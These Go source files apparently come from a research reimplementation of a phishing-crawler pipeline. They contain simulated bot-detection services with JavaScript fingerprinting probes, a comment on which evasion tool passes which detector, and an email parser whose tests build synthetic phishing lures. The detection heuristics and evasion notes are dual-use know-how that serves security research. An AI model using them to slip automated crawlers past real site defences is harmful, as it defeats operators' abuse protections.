		if (navigator.webdriver) { reasons.push("webdriver"); }
		if (navigator.userAgent.indexOf("HeadlessChrome") >= 0) { reasons.push("headless-ua"); }
		if (navigator.plugins.length === 0) { reasons.push("no-plugins"); }
		var xhr = new XMLHttpRequest();
		xhr.open("POST", "https://` + r.host + `/score", false);
		xhr.send(JSON.stringify({reasons: reasons.join(",")}));
	})();
	`
}

// VerdictFor returns the last background verdict for a client.
func (r *ReCaptchaV3) VerdictFor(clientIP string) Verdict {
	if v, ok := r.log.lookup(clientIP); ok {
		return v
	}
	return Verdict{Bot: true, Reasons: []string{"no-score-request"}}
}
