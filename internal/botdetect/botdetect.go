// Package botdetect re-implements the three bot-detection systems the paper
// evaluates crawlers against (Table I):
//
//   - BotD: an open-source client-side library running basic automation
//     probes (navigator.webdriver, headless UA markers, ChromeDriver cdc_
//     artifacts).
//   - Turnstile: an advanced JavaScript challenge in the style of
//     Cloudflare's CAPTCHA alternative — BotD's probes plus headless GPU
//     detection, stealth-plugin plugin-table inconsistencies, driver-binary
//     leftovers, timing-quantization VM detection, and server-side header
//     and TLS inspection. Issues single-use clearance tokens.
//   - AnonWAF: a commercial-style Web Application Firewall wrapping an
//     origin server: TLS fingerprinting, header inspection, and an
//     interstitial JavaScript challenge that sets a clearance cookie.
//
// Every verdict derives from the crawler's genuine observable surface as
// exposed through the simulated browser — nothing is keyed on a crawler's
// name — so the Table I matrix is an emergent result.
package botdetect

import (
	"fmt"
	"strings"
	"sync"

	"crawlerbox/internal/webnet"
)

// Verdict is one detector decision.
type Verdict struct {
	Bot     bool
	Reasons []string
}

// verdictLog stores per-client verdicts.
type verdictLog struct {
	mu       sync.Mutex
	verdicts map[string]Verdict // clientIP -> latest verdict; guarded by mu
}

func newVerdictLog() *verdictLog {
	return &verdictLog{verdicts: map[string]Verdict{}}
}

func (l *verdictLog) record(clientIP string, v Verdict) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.verdicts[clientIP] = v
}

func (l *verdictLog) lookup(clientIP string) (Verdict, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	v, ok := l.verdicts[clientIP]
	return v, ok
}

// BotD is the basic open-source detection library. Its probe script runs on
// any page that includes it and reports the result to the BotD host.
type BotD struct {
	host string
	log  *verdictLog
}

// NewBotD installs the BotD service on the network at the given host.
func NewBotD(net *webnet.Internet, host string) *BotD {
	b := &BotD{host: host, log: newVerdictLog()}
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(host, ip)
	net.Serve(host, func(req *webnet.Request) *webnet.Response {
		switch req.Path {
		case "/botd.js":
			return &webnet.Response{Status: 200, Body: []byte(b.Script()),
				Headers: map[string]string{"Content-Type": "text/javascript"}}
		case "/report":
			v := parseReport(req.Body)
			b.log.record(req.ClientIP, v)
			return &webnet.Response{Status: 200, Body: []byte("ok")}
		default:
			return &webnet.Response{Status: 404}
		}
	})
	return b
}

// Host returns the service host name.
func (b *BotD) Host() string { return b.host }

// Script returns the client-side probe. The checks mirror the real BotD's
// core heuristics.
func (b *BotD) Script() string {
	return `
	var __botd_reasons = [];
	if (navigator.webdriver) { __botd_reasons.push("webdriver"); }
	if (navigator.userAgent.indexOf("HeadlessChrome") >= 0) { __botd_reasons.push("headless-ua"); }
	if (typeof cdc_adoQpoasnfa76pfcZLmcfl_Array !== "undefined") { __botd_reasons.push("cdc-artifact"); }
	if (typeof window.__webdriver_evaluate !== "undefined") { __botd_reasons.push("webdriver-eval"); }
	var __botd_xhr = new XMLHttpRequest();
	__botd_xhr.open("POST", "https://` + b.host + `/report", false);
	__botd_xhr.send(JSON.stringify({bot: __botd_reasons.length > 0, reasons: __botd_reasons.join(",")}));
	`
}

// VerdictFor returns the recorded verdict for a client. Clients that never
// reported (no JavaScript execution) read as bots with reason "no-report".
func (b *BotD) VerdictFor(clientIP string) Verdict {
	if v, ok := b.log.lookup(clientIP); ok {
		return v
	}
	return Verdict{Bot: true, Reasons: []string{"no-report"}}
}

func parseReport(body string) Verdict {
	v := Verdict{}
	if strings.Contains(body, `"bot":true`) {
		v.Bot = true
	}
	if idx := strings.Index(body, `"reasons":"`); idx >= 0 {
		rest := body[idx+len(`"reasons":"`):]
		if end := strings.IndexByte(rest, '"'); end >= 0 && rest[:end] != "" {
			v.Reasons = strings.Split(rest[:end], ",")
		}
	}
	return v
}

// headerChecks runs the server-side request-surface inspection shared by
// Turnstile and AnonWAF.
func headerChecks(req *webnet.Request, checkTLS bool) []string {
	var reasons []string
	ua := req.Header("User-Agent")
	switch {
	case ua == "":
		reasons = append(reasons, "no-ua")
	case strings.Contains(ua, "HeadlessChrome"):
		reasons = append(reasons, "headless-ua")
	case !strings.Contains(ua, "Mozilla/"):
		reasons = append(reasons, "tool-ua")
	}
	if req.Header("Accept-Language") == "" {
		reasons = append(reasons, "no-accept-language")
	}
	if strings.EqualFold(req.Header("Cache-Control"), "no-cache") &&
		strings.EqualFold(req.Header("Pragma"), "no-cache") {
		reasons = append(reasons, "interception-cache-quirk")
	}
	if checkTLS && !strings.Contains(req.TLSFingerprint, "chrome-grease") {
		reasons = append(reasons, "tool-tls")
	}
	return reasons
}

func jsonReasons(reasons []string) string {
	return fmt.Sprintf(`{"bot":%v,"reasons":"%s"}`, len(reasons) > 0, strings.Join(reasons, ","))
}
