package botdetect

import (
	"strings"

	"crawlerbox/internal/webnet"
)

// AnonWAF is the commercial-style Web Application Firewall from the paper's
// Table I (its real name is under legal restriction there). It fronts an
// origin server: the first request from a client receives an interstitial
// JavaScript challenge; passing it sets a clearance cookie that admits
// subsequent requests. Independently of the challenge, every request's
// network surface (TLS fingerprint, header completeness, UA coherence) is
// inspected.
//
// Compared with Turnstile, the WAF's client-side probe is lighter — it does
// not check driver-binary leftovers or plugin-table authenticity — which is
// exactly why undetected_chromedriver passes AnonWAF while failing
// Turnstile, reproducing the paper's matrix.
type AnonWAF struct {
	host string
	log  *verdictLog
}

// ClearanceCookie is the cookie name carrying WAF clearance.
const ClearanceCookie = "__waf_clearance"

// NewAnonWAF returns a WAF guarding the given host. Wrap the origin handler
// with Wrap before serving.
func NewAnonWAF(host string) *AnonWAF {
	return &AnonWAF{host: host, log: newVerdictLog()}
}

// Host returns the protected host name.
func (w *AnonWAF) Host() string { return w.host }

// Wrap returns a handler enforcing the WAF in front of origin.
func (w *AnonWAF) Wrap(origin webnet.Handler) webnet.Handler {
	return func(req *webnet.Request) *webnet.Response {
		reasons := headerChecks(req, true)
		if len(reasons) > 0 {
			w.log.record(req.ClientIP, Verdict{Bot: true, Reasons: reasons})
			return &webnet.Response{Status: 403, Body: []byte("Access denied\n" + jsonReasons(reasons))}
		}
		if req.Path == "/__waf/clear" {
			return w.handleClear(req)
		}
		if !strings.Contains(req.Header("Cookie"), ClearanceCookie+"=granted") {
			// Interstitial challenge page.
			return &webnet.Response{Status: 200,
				Headers: map[string]string{"Content-Type": "text/html"},
				Body:    []byte(w.interstitial(req))}
		}
		w.log.record(req.ClientIP, Verdict{Bot: false})
		return origin(req)
	}
}

// handleClear validates the posted challenge signals and grants clearance.
func (w *AnonWAF) handleClear(req *webnet.Request) *webnet.Response {
	reasons := headerChecks(req, true)
	if idx := strings.Index(req.Body, `"reasons":"`); idx >= 0 {
		rest := req.Body[idx+len(`"reasons":"`):]
		if end := strings.IndexByte(rest, '"'); end >= 0 && rest[:end] != "" {
			reasons = append(reasons, strings.Split(rest[:end], ",")...)
		}
	}
	v := Verdict{Bot: len(reasons) > 0, Reasons: reasons}
	w.log.record(req.ClientIP, v)
	if v.Bot {
		return &webnet.Response{Status: 403, Body: []byte(jsonReasons(reasons))}
	}
	return &webnet.Response{Status: 200,
		Headers: map[string]string{"Set-Cookie": ClearanceCookie + "=granted; Path=/"},
		Body:    []byte("cleared")}
}

// interstitial returns the challenge page: collect signals, post them, and
// reload the original URL once clearance is granted.
func (w *AnonWAF) interstitial(req *webnet.Request) string {
	original := req.Path
	if req.RawQuery != "" {
		original += "?" + req.RawQuery
	}
	return `<html><body>
<p>Please wait while we verify your browser...</p>
<script>
var reasons = [];
if (navigator.webdriver) { reasons.push("webdriver"); }
if (navigator.userAgent.indexOf("HeadlessChrome") >= 0) { reasons.push("headless-ua"); }
if (typeof cdc_adoQpoasnfa76pfcZLmcfl_Array !== "undefined") { reasons.push("cdc-artifact"); }
var canvas = document.createElement("canvas");
var gl = canvas.getContext("webgl");
var renderer = "";
if (gl && gl.getParameter) { renderer = "" + gl.getParameter(37446); }
if (renderer === "" || renderer.indexOf("SwiftShader") >= 0) { reasons.push("software-gl"); }
var xhr = new XMLHttpRequest();
xhr.open("POST", "https://` + w.host + `/__waf/clear", false);
xhr.send(JSON.stringify({reasons: reasons.join(",")}));
if (xhr.status === 200) {
	document.setCookie("` + ClearanceCookie + `=granted");
	location.href = "` + original + `";
}
</script>
</body></html>`
}

// VerdictFor returns the last verdict for a client (from the WAF's logs,
// the way the paper's authors checked). Absent clients read as bots: they
// never passed the interstitial.
func (w *AnonWAF) VerdictFor(clientIP string) Verdict {
	if v, ok := w.log.lookup(clientIP); ok {
		return v
	}
	return Verdict{Bot: true, Reasons: []string{"no-clearance"}}
}
