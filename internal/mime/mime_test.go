package mime

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

var _testDate = time.Date(2024, 3, 15, 10, 30, 0, 0, time.UTC)

func TestParseSimpleTextMessage(t *testing.T) {
	raw := []byte("From: a@x.com\r\nTo: b@y.com\r\nSubject: Hi\r\n" +
		"Content-Type: text/plain; charset=utf-8\r\n\r\nhello world\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "text/plain" {
		t.Errorf("ContentType = %q", p.ContentType)
	}
	if p.Subject() != "Hi" || p.From() != "a@x.com" {
		t.Errorf("Subject/From = %q/%q", p.Subject(), p.From())
	}
	if !strings.Contains(string(p.Body), "hello world") {
		t.Errorf("Body = %q", p.Body)
	}
}

func TestParseToleratesBareLF(t *testing.T) {
	raw := []byte("From: a@x.com\nSubject: LF only\n\nbody line\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if p.Subject() != "LF only" {
		t.Errorf("Subject = %q", p.Subject())
	}
	if !strings.Contains(string(p.Body), "body line") {
		t.Errorf("Body = %q", p.Body)
	}
}

func TestParseHeaderOnlyMessage(t *testing.T) {
	p, err := Parse([]byte("From: a@x.com\r\nSubject: empty\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Body) != 0 {
		t.Errorf("Body = %q, want empty", p.Body)
	}
}

func TestParseEmptyFails(t *testing.T) {
	if _, err := Parse(nil); err == nil {
		t.Error("empty input should fail")
	}
	if _, err := Parse([]byte("\r\n\r\n")); err == nil {
		t.Error("whitespace-only input should fail")
	}
}

func TestParseBase64Body(t *testing.T) {
	raw := []byte("From: a@x.com\r\nContent-Type: text/plain\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gcGhpc2g=\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Body) != "hello phish" {
		t.Errorf("Body = %q", p.Body)
	}
}

func TestParseBase64BodyWithLineBreaks(t *testing.T) {
	raw := []byte("Content-Type: application/octet-stream\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\naGVs\r\nbG8g\r\ncGhp\r\nc2g=\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Body) != "hello phish" {
		t.Errorf("Body = %q", p.Body)
	}
}

func TestParseCorruptBase64Fails(t *testing.T) {
	raw := []byte("Content-Type: text/plain\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n!!!not-base64!!!\r\n")
	if _, err := Parse(raw); err == nil {
		t.Error("corrupt base64 should fail")
	}
}

func TestParseQuotedPrintableBody(t *testing.T) {
	raw := []byte("Content-Type: text/plain\r\n" +
		"Content-Transfer-Encoding: quoted-printable\r\n\r\nclick=20here=21\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(p.Body), "click here!") {
		t.Errorf("Body = %q", p.Body)
	}
}

func TestParseUnsupportedEncodingFails(t *testing.T) {
	raw := []byte("Content-Type: text/plain\r\n" +
		"Content-Transfer-Encoding: uuencode\r\n\r\nxxx\r\n")
	if _, err := Parse(raw); err == nil {
		t.Error("unsupported encoding should fail")
	}
}

func TestParseMalformedContentTypeTolerated(t *testing.T) {
	raw := []byte("Content-Type: totally;;;broken===\r\n\r\nbody\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "text/plain" {
		t.Errorf("ContentType = %q, want text/plain fallback", p.ContentType)
	}
}

func TestParseMultipart(t *testing.T) {
	raw := []byte("From: a@x.com\r\n" +
		"Content-Type: multipart/mixed; boundary=\"BOUND\"\r\n\r\n" +
		"preamble to ignore\r\n" +
		"--BOUND\r\nContent-Type: text/plain\r\n\r\npart one\r\n" +
		"--BOUND\r\nContent-Type: text/html\r\n\r\n<p>part two</p>\r\n" +
		"--BOUND--\r\nepilogue\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Children) != 2 {
		t.Fatalf("children = %d, want 2", len(p.Children))
	}
	if p.Children[0].ContentType != "text/plain" || !strings.Contains(string(p.Children[0].Body), "part one") {
		t.Errorf("child 0 = %q %q", p.Children[0].ContentType, p.Children[0].Body)
	}
	if p.Children[1].ContentType != "text/html" || !strings.Contains(string(p.Children[1].Body), "part two") {
		t.Errorf("child 1 = %q %q", p.Children[1].ContentType, p.Children[1].Body)
	}
}

func TestParseMultipartMissingCloseTolerated(t *testing.T) {
	raw := []byte("Content-Type: multipart/mixed; boundary=B\r\n\r\n" +
		"--B\r\nContent-Type: text/plain\r\n\r\ntruncated phish\r\n")
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Children) != 1 || !strings.Contains(string(p.Children[0].Body), "truncated phish") {
		t.Fatalf("children = %+v", p.Children)
	}
}

func TestParseMultipartNoBoundaryFails(t *testing.T) {
	raw := []byte("Content-Type: multipart/mixed\r\n\r\nbody\r\n")
	if _, err := Parse(raw); err == nil {
		t.Error("multipart without boundary should fail")
	}
}

func TestParseNestedEML(t *testing.T) {
	inner := NewBuilder("evil@phish.ru", "victim@corp.example", "inner lure", _testDate).
		Text("visit https://evil-site.com/x").Build()
	outer := NewBuilder("fwd@corp.example", "soc@corp.example", "FW: suspicious", _testDate).
		Text("see attached").
		AttachEML("reported.eml", inner).Build()
	p, err := Parse(outer)
	if err != nil {
		t.Fatal(err)
	}
	var emlPart *Part
	_ = Walk(p, func(q *Part) error {
		if q.ContentType == "message/rfc822" {
			emlPart = q
		}
		return nil
	})
	if emlPart == nil {
		t.Fatal("no message/rfc822 part found")
	}
	if len(emlPart.Children) != 1 {
		t.Fatalf("EML children = %d", len(emlPart.Children))
	}
	if emlPart.Children[0].Subject() != "inner lure" {
		t.Errorf("inner subject = %q", emlPart.Children[0].Subject())
	}
	var sawURL bool
	_ = Walk(p, func(q *Part) error {
		if bytes.Contains(q.Body, []byte("evil-site.com")) {
			sawURL = true
		}
		return nil
	})
	if !sawURL {
		t.Error("nested URL not reachable through the tree")
	}
}

func TestParseDeepNestingRejected(t *testing.T) {
	msg := NewBuilder("a@x.com", "b@y.com", "level 0", _testDate).Text("core").Build()
	for i := 0; i < MaxDepth+2; i++ {
		msg = NewBuilder("a@x.com", "b@y.com", "wrap", _testDate).
			Text("wrapper").AttachEML("inner.eml", msg).Build()
	}
	// Parsing must not blow the stack; the deepest layers simply stay
	// opaque (graceful degradation), or the parse errors out.
	p, err := Parse(msg)
	if err == nil {
		depth := 0
		cur := p
		for len(cur.Children) > 0 {
			depth++
			cur = cur.Children[len(cur.Children)-1]
		}
		if depth > 3*MaxDepth {
			t.Errorf("parse descended %d levels; depth limit ineffective", depth)
		}
	}
}

func TestBuilderRoundTripBodies(t *testing.T) {
	raw := NewBuilder("sender@phish.ru", "user@corp.example", "Urgent: verify account", _testDate).
		Text("Please visit https://evil-site.com/login now.").
		HTML(`<html><body><a href="https://evil-site.com/login">click</a></body></html>`).
		Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	leaves := Leaves(p)
	var text, html string
	for _, l := range leaves {
		switch l.ContentType {
		case "text/plain":
			text = string(l.Body)
		case "text/html":
			html = string(l.Body)
		}
	}
	if !strings.Contains(text, "https://evil-site.com/login") {
		t.Errorf("text body = %q", text)
	}
	if !strings.Contains(html, `href="https://evil-site.com/login"`) {
		t.Errorf("html body = %q", html)
	}
}

func TestBuilderAttachment(t *testing.T) {
	payload := []byte{0x00, 0x01, 0xFE, 0xFF, 'P', 'K', 0x03, 0x04}
	raw := NewBuilder("a@x.com", "b@y.com", "with attachment", _testDate).
		Text("see attachment").
		Attach("application/octet-stream", "payload.bin", payload).
		Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	var att *Part
	_ = Walk(p, func(q *Part) error {
		if q.Disposition == "attachment" {
			att = q
		}
		return nil
	})
	if att == nil {
		t.Fatal("attachment not found")
	}
	if att.Filename != "payload.bin" {
		t.Errorf("Filename = %q", att.Filename)
	}
	if !bytes.Equal(att.Body, payload) {
		t.Errorf("attachment body = %x, want %x", att.Body, payload)
	}
}

func TestBuilderInlineImagePart(t *testing.T) {
	raw := NewBuilder("a@x.com", "b@y.com", "inline", _testDate).
		HTML("<p>scan the code</p>").
		Inline("image/x-cbi", "qr.cbi", []byte("CBIMxxxx")).
		Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	var inline *Part
	_ = Walk(p, func(q *Part) error {
		if q.Disposition == "inline" {
			inline = q
		}
		return nil
	})
	if inline == nil || inline.ContentType != "image/x-cbi" {
		t.Fatalf("inline part = %+v", inline)
	}
}

func TestBuilderAuthHeader(t *testing.T) {
	raw := NewBuilder("a@sender.example", "b@y.com", "auth", _testDate).Text("x").Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	ar := ParseAuthResults(p.Header.Get("Authentication-Results"))
	if !ar.PassesAuth() {
		t.Errorf("default build should pass auth, got %+v", ar)
	}
	raw = NewBuilder("a@x.com", "b@y.com", "auth", _testDate).
		Auth(AuthResults{SPF: "fail", DKIM: "pass", DMARC: "pass"}).Text("x").Build()
	p, err = Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	ar = ParseAuthResults(p.Header.Get("Authentication-Results"))
	if ar.PassesAuth() || ar.SPF != "fail" {
		t.Errorf("auth override not honored: %+v", ar)
	}
}

func TestParseAuthResults(t *testing.T) {
	tests := []struct {
		value string
		want  AuthResults
	}{
		{"mx.x; spf=pass a; dkim=pass b; dmarc=pass c", AuthResults{"pass", "pass", "pass"}},
		{"mx.x; SPF=Fail; dkim=none", AuthResults{SPF: "fail", DKIM: "none"}},
		{"", AuthResults{}},
	}
	for _, tt := range tests {
		if got := ParseAuthResults(tt.value); got != tt.want {
			t.Errorf("ParseAuthResults(%q) = %+v, want %+v", tt.value, got, tt.want)
		}
	}
}

func TestWalkOrderAndLeaves(t *testing.T) {
	raw := NewBuilder("a@x.com", "b@y.com", "multi", _testDate).
		Text("one").HTML("<p>two</p>").
		Attach("application/pdf", "doc.pdf", []byte("%PDF-fake")).
		Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	var visited int
	_ = Walk(p, func(q *Part) error {
		visited++
		return nil
	})
	leaves := Leaves(p)
	if len(leaves) != 3 {
		t.Errorf("leaves = %d, want 3 (text, html, pdf)", len(leaves))
	}
	if visited <= len(leaves) {
		t.Errorf("walk visited %d nodes, should include containers", visited)
	}
}

func TestWalkStopsOnError(t *testing.T) {
	raw := NewBuilder("a@x.com", "b@y.com", "multi", _testDate).
		Text("one").HTML("<p>two</p>").Build()
	p, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	stop := Walk(p, func(q *Part) error {
		count++
		return ErrTooDeep // arbitrary sentinel
	})
	if stop == nil || count != 1 {
		t.Errorf("walk did not stop on first error: count=%d err=%v", count, stop)
	}
}

func TestBuilderParseRoundTripProperty(t *testing.T) {
	f := func(subjectSeed uint8, bodySeed uint16) bool {
		subject := strings.Repeat("s", int(subjectSeed%20)+1)
		body := "payload " + strings.Repeat("b", int(bodySeed%200))
		raw := NewBuilder("from@a.example", "to@b.example", subject, _testDate).
			Text(body).Build()
		p, err := Parse(raw)
		if err != nil {
			return false
		}
		return p.Subject() == subject && strings.Contains(string(p.Body), "payload")
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestAttachmentBinaryRoundTripProperty(t *testing.T) {
	f := func(payload []byte) bool {
		raw := NewBuilder("a@x.example", "b@y.example", "bin", _testDate).
			Text("body").
			Attach("application/octet-stream", "f.bin", payload).
			Build()
		p, err := Parse(raw)
		if err != nil {
			return false
		}
		for _, l := range Leaves(p) {
			if l.Disposition == "attachment" {
				return bytes.Equal(l.Body, payload)
			}
		}
		return false
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
