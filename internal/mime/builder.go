package mime

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"mime/quotedprintable"
	"strings"
	"time"
)

// Builder composes RFC-5322 messages for the synthetic corpus. It supports
// plain-text and HTML alternatives, inline and attached files with base64 or
// quoted-printable transfer encoding, attached EML messages, and the
// Authentication-Results header the corpus messages all carry.
type Builder struct {
	from      string
	to        string
	subject   string
	date      time.Time
	auth      AuthResults
	textBody  string
	htmlBody  string
	parts     []builtPart
	extraHdrs [][2]string
}

type builtPart struct {
	contentType string
	filename    string
	disposition string
	encoding    string
	body        []byte
}

// NewBuilder returns a builder with the mandatory envelope fields.
func NewBuilder(from, to, subject string, date time.Time) *Builder {
	return &Builder{
		from:    from,
		to:      to,
		subject: subject,
		date:    date,
		auth:    AuthResults{SPF: "pass", DKIM: "pass", DMARC: "pass"},
	}
}

// Text sets the plain-text body.
func (b *Builder) Text(body string) *Builder {
	b.textBody = body
	return b
}

// HTML sets the HTML body.
func (b *Builder) HTML(body string) *Builder {
	b.htmlBody = body
	return b
}

// Auth overrides the Authentication-Results verdicts.
func (b *Builder) Auth(a AuthResults) *Builder {
	b.auth = a
	return b
}

// Header adds an arbitrary extra top-level header.
func (b *Builder) Header(key, value string) *Builder {
	b.extraHdrs = append(b.extraHdrs, [2]string{key, value})
	return b
}

// Attach adds an attachment with base64 transfer encoding.
func (b *Builder) Attach(contentType, filename string, body []byte) *Builder {
	b.parts = append(b.parts, builtPart{
		contentType: contentType,
		filename:    filename,
		disposition: "attachment",
		encoding:    "base64",
		body:        body,
	})
	return b
}

// Inline adds an inline part (e.g., an embedded image) with base64 encoding.
func (b *Builder) Inline(contentType, filename string, body []byte) *Builder {
	b.parts = append(b.parts, builtPart{
		contentType: contentType,
		filename:    filename,
		disposition: "inline",
		encoding:    "base64",
		body:        body,
	})
	return b
}

// AttachEML nests a complete message as a message/rfc822 attachment.
func (b *Builder) AttachEML(filename string, raw []byte) *Builder {
	b.parts = append(b.parts, builtPart{
		contentType: "message/rfc822",
		filename:    filename,
		disposition: "attachment",
		encoding:    "7bit",
		body:        raw,
	})
	return b
}

// Build renders the message bytes.
func (b *Builder) Build() []byte {
	var buf bytes.Buffer
	writeHeader := func(k, v string) {
		fmt.Fprintf(&buf, "%s: %s\r\n", k, v)
	}
	writeHeader("From", b.from)
	writeHeader("To", b.to)
	writeHeader("Subject", b.subject)
	writeHeader("Date", b.date.UTC().Format(time.RFC1123Z))
	writeHeader("Message-ID", fmt.Sprintf("<%d.%s>", b.date.UnixNano(), hostOf(b.from)))
	writeHeader("MIME-Version", "1.0")
	writeHeader("Authentication-Results", fmt.Sprintf(
		"mx.recipient.example; spf=%s smtp.mailfrom=%s; dkim=%s header.d=%s; dmarc=%s",
		orNone(b.auth.SPF), hostOf(b.from), orNone(b.auth.DKIM), hostOf(b.from), orNone(b.auth.DMARC)))
	for _, h := range b.extraHdrs {
		writeHeader(h[0], h[1])
	}

	bodies := b.bodyParts()
	switch {
	case len(bodies) == 0:
		writeHeader("Content-Type", "text/plain; charset=utf-8")
		buf.WriteString("\r\n")
	case len(bodies) == 1 && len(b.parts) == 0:
		writePart(&buf, bodies[0], true)
	default:
		boundary := fmt.Sprintf("=_cbx_%x", b.date.UnixNano())
		writeHeader("Content-Type", fmt.Sprintf("multipart/mixed; boundary=%q", boundary))
		buf.WriteString("\r\n")
		all := append(bodies, b.parts...)
		if b.textBody != "" && b.htmlBody != "" {
			// Wrap the two bodies in multipart/alternative.
			altBoundary := boundary + "_alt"
			var alt bytes.Buffer
			for _, p := range bodies {
				fmt.Fprintf(&alt, "--%s\r\n", altBoundary)
				writePart(&alt, p, false)
			}
			fmt.Fprintf(&alt, "--%s--\r\n", altBoundary)
			all = append([]builtPart{{
				contentType: fmt.Sprintf("multipart/alternative; boundary=%q", altBoundary),
				encoding:    "7bit",
				body:        alt.Bytes(),
			}}, b.parts...)
		}
		for _, p := range all {
			fmt.Fprintf(&buf, "--%s\r\n", boundary)
			writePart(&buf, p, false)
		}
		fmt.Fprintf(&buf, "--%s--\r\n", boundary)
	}
	return buf.Bytes()
}

func (b *Builder) bodyParts() []builtPart {
	var out []builtPart
	if b.textBody != "" {
		out = append(out, builtPart{
			contentType: "text/plain; charset=utf-8",
			encoding:    "quoted-printable",
			body:        []byte(b.textBody),
		})
	}
	if b.htmlBody != "" {
		out = append(out, builtPart{
			contentType: "text/html; charset=utf-8",
			encoding:    "quoted-printable",
			body:        []byte(b.htmlBody),
		})
	}
	return out
}

// writePart writes one part's headers and encoded body. topLevel indicates
// the part doubles as the whole message body (headers already written).
func writePart(buf *bytes.Buffer, p builtPart, topLevel bool) {
	ct := p.contentType
	if p.filename != "" && !strings.Contains(ct, "name=") && !strings.HasPrefix(ct, "multipart/") {
		ct = fmt.Sprintf("%s; name=%q", ct, p.filename)
	}
	fmt.Fprintf(buf, "Content-Type: %s\r\n", ct)
	if p.encoding != "" && p.encoding != "7bit" {
		fmt.Fprintf(buf, "Content-Transfer-Encoding: %s\r\n", p.encoding)
	}
	if p.disposition != "" {
		if p.filename != "" {
			fmt.Fprintf(buf, "Content-Disposition: %s; filename=%q\r\n", p.disposition, p.filename)
		} else {
			fmt.Fprintf(buf, "Content-Disposition: %s\r\n", p.disposition)
		}
	}
	buf.WriteString("\r\n")
	switch p.encoding {
	case "base64":
		enc := base64.StdEncoding.EncodeToString(p.body)
		for len(enc) > 0 {
			n := min(76, len(enc))
			buf.WriteString(enc[:n])
			buf.WriteString("\r\n")
			enc = enc[n:]
		}
	case "quoted-printable":
		w := quotedprintable.NewWriter(buf)
		_, _ = w.Write(p.body)
		_ = w.Close()
		buf.WriteString("\r\n")
	default:
		buf.Write(p.body)
		if !bytes.HasSuffix(p.body, []byte("\r\n")) {
			buf.WriteString("\r\n")
		}
	}
	_ = topLevel
}

func hostOf(addr string) string {
	if i := strings.LastIndexByte(addr, '@'); i >= 0 {
		return strings.Trim(addr[i+1:], "<> ")
	}
	return "unknown.example"
}

func orNone(v string) string {
	if v == "" {
		return "none"
	}
	return v
}
