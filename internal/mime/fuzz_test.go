package mime

import (
	"bytes"
	"testing"
	"time"
)

// FuzzParseMessage drives the recursive RFC-5322/MIME parser with builder
// output — multipart, nested message/rfc822, attachments — plus corrupted
// and hostile variants. The contract: never panic, never return a nil
// *Part without an error, no matter how mangled the input. The seed corpus
// runs as ordinary test cases; `go test -fuzz=FuzzParseMessage` explores
// beyond it.
func FuzzParseMessage(f *testing.F) {
	at := time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC)
	simple := NewBuilder("a@x.example", "b@y.example", "hello", at).
		Text("plain body").Build()
	multipart := NewBuilder("it@corp.example", "user@corp.example", "reset", at).
		Text("see attachment").
		Attach("application/pdf", "invoice.pdf", []byte("%PDF-1.4 fake")).
		Build()
	nested := NewBuilder("fw@x.example", "b@y.example", "fwd", at).
		Text("forwarded").
		AttachEML("original.eml", simple).
		Build()
	f.Add(simple)
	f.Add(multipart)
	f.Add(nested)
	f.Add(multipart[:len(multipart)/2])
	f.Add(bytes.Replace(multipart, []byte("boundary"), []byte("bound"), 1))
	f.Add([]byte("Subject: bare\r\n\r\n"))
	// Regression: a base64 body exercises the decodeTransfer clamp of the
	// decoded length against the output buffer.
	f.Add([]byte("Content-Transfer-Encoding: base64\r\nContent-Type: text/plain\r\n\r\nSGVs bG8s\r\nIHdvcmxkIQ==\r\n"))
	f.Add([]byte("no headers at all"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, raw []byte) {
		p, err := Parse(raw)
		if err == nil && p == nil {
			t.Fatal("Parse returned nil *Part with nil error")
		}
	})
}
