// Package mime implements the recursive email parsing substrate of the
// CrawlerBox pipeline (Section IV-B of the paper): RFC-5322 header handling,
// multipart traversal to arbitrary nesting depth, base64 and
// quoted-printable transfer decoding, content-type dispatch, magic-number
// sniffing for application/octet-stream parts, and recursive descent into
// message/rfc822 (EML) attachments — plus a builder for composing the
// synthetic corpus.
package mime

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	stdmime "mime"
	"mime/quotedprintable"
	"net/textproto"
	"strings"
)

// MaxDepth bounds recursive multipart/EML nesting; real-world abuse includes
// deeply nested EML bombs, which the parser must reject rather than follow.
const MaxDepth = 16

// Errors returned by the parser.
var (
	ErrTooDeep   = errors.New("mime: message nesting exceeds MaxDepth")
	ErrNoHeaders = errors.New("mime: message has no header block")
)

// Part is one node of a parsed message tree. The root Part is the message
// itself; multipart containers carry Children; leaves carry decoded Body.
type Part struct {
	// Header holds the part's headers with canonical MIME keys.
	Header textproto.MIMEHeader
